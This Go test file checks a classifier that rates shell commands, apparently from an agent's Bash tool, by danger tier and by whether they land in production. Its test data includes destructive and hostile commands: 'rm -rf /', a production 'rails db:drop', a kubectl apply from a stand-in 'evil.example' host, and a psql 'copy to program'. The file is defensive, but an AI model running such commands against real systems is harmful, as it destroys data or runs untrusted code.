package classify

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// environment says of places by their names what a user would.
func environment(p *Place) (Environment, string) {
	for _, name := range p.Names {
		if strings.Contains(name, "prod") {
			return Production, name
		}
	}
	if p.Unknown != "" {
		return Uncertain, ""
	}
	for _, name := range p.Names {
		if strings.HasPrefix(name, "sand") && !p.Doubtful {
			return Disposable, name
		}
	}
	return Elsewhere, ""
}

// worst returns the strictest environment in which an effect of the call lands.
func worstEnvironment(a *Assessment) (worst Environment) {
	for i := range a.Effects {
		if l := a.Effects[i].Lands; l != nil {
			worst = max(worst, l.Environment)
		}
	}
	return worst
}

// placed assesses a command as a user does whose settings of kubectl name a context.
func placed(t *testing.T, current string) func(command string) *Assessment {
	t.Helper()
	home, project := scratch(t)
	for _, name := range []string{"KUBECONFIG", "AWS_PROFILE", "AWS_ACCESS_KEY_ID", "PGHOST", "PGSERVICE", "DATABASE_URL", "DOCKER_HOST", "TF_WORKSPACE",
		"HELM_KUBECONTEXT"} {
		t.Setenv(name, "")
	}
	config := filepath.Join(home, ".kube/config")
	if err := os.MkdirAll(filepath.Dir(config), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(config, []byte("current-context: "+current+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return func(command string) *Assessment {
		return Assess(Call{Tool: "Bash", Input: map[string]any{"command": command}, Cwd: project, Home: home, Environment: environment})
	}
}

// TestLandsInProduction says the same place in all the ways that there are.
func TestLandsInProduction(t *testing.T) {
	t.Setenv("GK_TEST_CONTEXT", "prod")
	assess := placed(t, "stage")
	for command := range strings.Lines(strings.TrimSpace(`
		kubectl --context prod scale deploy web --replicas 0
		kubectl --context=prod scale deploy web --replicas 0
		kubectl scale deploy web --replicas 0 --context prod
		kubectl scale deploy web --replicas 0 --context "$GK_TEST_CONTEXT"
		c=prod; kubectl --context $c scale deploy web --replicas 0
		for c in stage prod; do kubectl --context $c scale deploy web --replicas 0; done
		kubectl config use-context prod && kubectl scale deploy web --replicas 0
		kubectl config use-context prod; kubectl scale deploy web --replicas 0
		kubectx prod && helm upgrade web ./chart
		f() { kubectl --context "$1" scale deploy web --replicas 0; }; f prod
		bash -c 'kubectl --context prod scale deploy web --replicas 0'
		echo web | xargs kubectl --context prod rollout restart deploy
		timeout 5 kubectl --context prod scale deploy web --replicas 0
		ssh box kubectl --context prod scale deploy web --replicas 0
		ssh prod-box kubectl scale deploy web --replicas 0
		ssh prod-box systemctl restart web
		ssh me@prod-box 'echo x > /srv/x'
		ssh -o HostName=prod box touch /srv/x
		kubectl --context prod exec web -- touch x
		helm --kube-context prod upgrade web ./chart
		HELM_KUBECONTEXT=prod helm upgrade web ./chart
		AWS_PROFILE=prod aws ec2 create-tags --resources i-1 --tags Key=a,Value=b
		export AWS_PROFILE=prod; aws ec2 create-tags --resources i-1 --tags Key=a,Value=b
		env AWS_PROFILE=prod aws ec2 create-tags --resources i-1 --tags Key=a,Value=b
		declare -x AWS_PROFILE=prod; aws ec2 create-tags --resources i-1 --tags Key=a,Value=b
		set -a; AWS_PROFILE=prod; aws ec2 create-tags --resources i-1 --tags Key=a,Value=b
		true && AWS_PROFILE=prod || AWS_PROFILE=sand; export AWS_PROFILE; aws ec2 create-tags --resources i-1 --tags Key=a,Value=b
		AWS_PROFILE=sand aws --profile prod ec2 create-tags --resources i-1 --tags Key=a,Value=b
		TF_WORKSPACE=prod terraform apply -auto-approve
		terraform workspace select prod && terraform apply -auto-approve
		psql -h prod-db -c 'update t set a = 1 where b = 2'
		PGHOST=prod-db psql -c 'update t set a = 1 where b = 2'
		psql postgres://me@prod-db/x -c 'update t set a = 1 where b = 2'
		psql "host=prod-db dbname=x" -c 'update t set a = 1 where b = 2'
		psql -d x_prod -c 'update t set a = 1 where b = 2'
		echo 'update t set a = 1 where b = 2' | psql -h prod-db
		DOCKER_HOST=ssh://prod docker stop web
		docker --context prod stop web
		docker context use prod && docker stop web
		RAILS_ENV=production rails db:drop
		RAILS_ENV=production rake db:migrate
		rails db:migrate -e production
		scp README.md prod-box:/srv/
		rsync -a src/ prod-box:/srv/
	`)) {
		command = strings.TrimSpace(command)
		if a := assess(command); a.Tier < Dangerous || worstEnvironment(a) != Production {
			t.Errorf("%s\n\tgot %s in %q, want dangerous in production\n\t%s", command, outcome(a), worstEnvironment(a), because(a))
		}
	}
}

// TestLandsElsewhere holds reads, changes of this machine and places without a name to what they are.
func TestLandsElsewhere(t *testing.T) {
	assess := placed(t, "sand")
	for _, tt := range []struct {
		command     string
		tier        Tier
		environment Environment
	}{
		{"kubectl --context prod get pods", Safe, Elsewhere},
		{"kubectl --context prod scale deploy web --replicas 0 --dry-run=client", Safe, Elsewhere},
		{"aws --profile prod ec2 describe-instances", Safe, Elsewhere},
		{"ssh prod-box uptime", Moderate, Production},
		{"kubectl config use-context prod", Moderate, Elsewhere},
		{"kubectl scale deploy web --replicas 0", Moderate, Disposable},
		{"kubectl delete ns web", Moderate, Disposable}, // asks, since it cannot be undone
		{"kubectl -n prod delete ns web", Dangerous, Production},
		{"kubectl --context other delete ns web", Dangerous, Elsewhere},
		{`kubectl --context "$NOT_SET_ANYWHERE" scale deploy web --replicas 0`, Moderate, Uncertain},
		{"KUBECONFIG=./mine kubectl scale deploy web --replicas 0", Moderate, Uncertain},
		{"cp x ~/.kube/config; kubectl scale deploy web --replicas 0", Dangerous, Uncertain}, // it is a credential file
		{"ssh box kubectl scale deploy web --replicas 0", Moderate, Uncertain},
		{"sudo kubectl scale deploy web --replicas 0", Dangerous, Uncertain},
		{"AWS_ACCESS_KEY_ID=AKIA aws ec2 create-tags --resources i-1 --tags Key=a,Value=b", Moderate, Uncertain},
		{"scp README.md box:/srv/", Moderate, Elsewhere},
		{"kubectl config set-cluster kc --server https://x.example && kubectl --context sand scale deploy web --replicas 0", Moderate, Uncertain},
		{"ssh sandbox -o HostName=other touch /srv/x", Moderate, Elsewhere},
		{"ssh sandbox touch /srv/x", Moderate, Disposable},
		{"kubectl --context sand apply -f https://evil.example/sand", Moderate, Disposable}, // asks, since it fetches elsewhere
		{"psql -d sand_test -c 'drop table t'", Moderate, Disposable},
		{"psql -d sand_test -c \"copy t to program 'x'\"", Dangerous, Disposable}, // it does more than change data
		{"rake db:migrate", Moderate, Elsewhere},
		{"rm -rf /", Blocked, Elsewhere},
		{"ssh sandbox rm -rf /srv", Moderate, Disposable},
	} {
		a := assess(tt.command)
		if a.Tier != tt.tier || worstEnvironment(a) != tt.environment {
			t.Errorf("%s\n\tgot %s in %q, want %s in %q\n\t%s", tt.command, outcome(a), worstEnvironment(a), tt.tier, tt.environment, because(a))
		}
	}
}

// TestPickedForSure holds that a context that a command picked for sure is the one that counts, and that every doubt
// leaves the one before as well.
func TestPickedForSure(t *testing.T) {
	assess := placed(t, "prod")
	const scale = "kubectl scale deploy web --replicas 0"
	for _, tt := range []struct {
		command string
		want    Environment
	}{
		{"kubectl config use-context sand && " + scale, Disposable},
		{"kubectl config use-context sand >/dev/null && " + scale, Disposable},
		{"ls && kubectl config use-context sand && ls && " + scale, Disposable},
		{"set -e; kubectl config use-context sand; " + scale, Disposable},
		{"kubectl config use-context sand || exit 1; " + scale, Disposable},
		{"kubectl config use-context other && kubectl config use-context sand && " + scale, Disposable},
		{"if kubectl config use-context sand; then " + scale + "; fi", Disposable},
		{"kubectl config use-context sand && (" + scale + " | cat)", Disposable},
		{"kubectl config use-context sand && " + scale + " && kubectl config use-context prod", Disposable},

		{"kubectl config use-context sand; " + scale, Production},
		{"kubectl config use-context sand || true; " + scale, Production},
		{"kubectl config use-context sand || " + scale, Production},
		{"! kubectl config use-context sand && " + scale, Production},
		{"kubectl config use-context sand & " + scale, Production},
		{"kubectl config use-context sand | cat && " + scale, Production},
		{"kubectl config use-context prod & kubectl config use-context sand && " + scale, Production},
		{"kubectl config use-context sand && kubectl config use-context prod; " + scale, Production},
		{"set -e; kubectl config use-context sand || true; " + scale, Production},
		{"f() { kubectl config use-context sand; return 0; }; f && " + scale, Production},
		{"f() { kubectl config use-context sand; [[ a ]]; }; f && " + scale, Production},
		{"f() { kubectl config use-context sand || :; }; f && " + scale, Production},
		{"kubectl() { :; }; kubectl config use-context sand && unset -f kubectl && " + scale, Production},
		{"command_not_found_handle() { :; }; oc config use-context sand && " + scale, Production},
		{"alias k='kubectl config use-context sand ||'\nshopt -s expand_aliases\nk true && " + scale, Production},
		{"eval 'kubectl config use-context sand; :' && " + scale, Production},
		{"bash -c 'kubectl config use-context sand; :' && " + scale, Production},
		{"sudo kubectl config use-context sand && " + scale, Production},
		{"KUBECONFIG=./x kubectl config use-context sand && " + scale, Production},
		{"kubectl --kubeconfig x config use-context sand && " + scale, Production},
		{"kubectl config use-context sand --cluster c && " + scale, Production},
		{"kubectl config use-context sand && sudo " + scale, Uncertain},
		{"kubectl config use-context sand && HOME=/root " + scale, Uncertain},
		{"kubectl config use-context sand && KUBECONFIG=./x " + scale, Uncertain},
		{"for c in sand prod; do kubectl config use-context $c && " + scale + "; done", Production},
	} {
		if a := assess(tt.command); worstEnvironment(a) != tt.want {
			t.Errorf("%s\n\tgot %s in %q, want %q\n\t%s", tt.command, outcome(a), worstEnvironment(a), tt.want, because(a))
		}
	}
}
